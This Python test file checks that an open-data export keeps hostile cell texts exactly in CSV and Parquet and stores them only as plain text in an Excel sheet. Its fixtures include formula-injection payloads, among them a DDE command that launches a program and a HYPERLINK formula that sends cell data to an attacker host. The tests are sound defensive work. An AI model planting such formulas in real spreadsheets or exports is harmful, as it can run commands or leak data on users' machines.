"""Cells that somebody wrote to do harm, or that no format foresees: CSV and Parquet give them as they are, a sheet as text."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pandas
import pytest

from entente.surfaces.opendata.tables import table_named
from entente.surfaces.opendata.workbook import CELL_LENGTH_MAX, CUT, SheetWriter, put_together
from entente.surfaces.opendata.writers import CsvWriter, ParquetWriter

TEXTS = {
    "formula": "=cmd|' /C calc'!A0",
    "sum": "=SUM(1,2)",
    "plus": "+1+1",
    "minus": "-2-3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "link": '=HYPERLINK("https://attacker.example?"&A1,"look")',
    "quotes": 'He said "no", twice',
    "lines": "one\ntwo\r\nthree\rfour",
    "markup": "</t></is></c><script>&amp;]]>",
    "right to left": "\u202eabc\u202c שלום \u200f",
    "spaces": "  kept  ",
    "number": "007",
    "day": "2026-03-01",
    "nothing": "NA",
    "emoji": "👩🏽‍🌾",
    "escape": "_x000D_",
}
CONTROLS = "a\x00b\x01c\x0bd\x1fe\ufffef"
LONG = "ä" * (1 << 20)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One table with a hostile text in each row, in the three formats."""
    folder = tmp_path_factory.mktemp("hostile")
    table = table_named("pillars")
    assert table is not None
    columns = table.columns_in(["en"])
    sheet = SheetWriter(folder / "sheet.xml", [column.name for column in columns])
    writers = (CsvWriter(folder / "t.csv", columns), ParquetWriter(folder / "t.parquet", columns), sheet)
    for writer in writers:
        for name, text in [*TEXTS.items(), ("controls", CONTROLS), ("long", LONG)]:
            writer.write([name, "plan", "1", text, None])
        writer.close()
    put_together(folder / "t.xlsx", [("t", folder / "sheet.xml")], title="t", at=datetime(2026, 3, 1, tzinfo=UTC))
    return folder


def test_csv_gives_every_text_to_the_letter(written: Path) -> None:
    csv.field_size_limit(1 << 22)
    with (written / "t.csv").open(encoding="utf-8", newline="") as file:
        found = {row["pillar"]: row["title_en"] for row in csv.DictReader(file)}
    assert found == {**TEXTS, "controls": CONTROLS, "long": LONG}


def test_parquet_gives_every_text_to_the_letter(written: Path) -> None:
    frame = pandas.read_parquet(written / "t.parquet")
    assert dict(zip(frame["pillar"], frame["title_en"], strict=True)) == {
        **TEXTS, "controls": CONTROLS, "long": LONG,
    }  # fmt: skip


def test_a_sheet_has_texts_and_never_a_formula(written: Path) -> None:
    sheet = openpyxl.load_workbook(written / "t.xlsx")["t"]
    cells = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    assert {cell.data_type for cell in cells.values()} <= {"s", "inlineStr"}
    found = {name: str(cells[name].value) for name in TEXTS}
    assert {name: text for name, text in found.items() if text != TEXTS[name]} == {}
    assert cells["controls"].value == "abcdef"


def test_a_text_that_no_cell_holds_is_cut_in_the_sheet_and_says_so(written: Path) -> None:
    sheet = openpyxl.load_workbook(written / "t.xlsx")["t"]
    (long,) = [row[3].value for row in sheet.iter_rows(min_row=2) if row[0].value == "long"]
    assert (len(long), long.endswith(CUT), long[0]) == (CELL_LENGTH_MAX, True, "ä")
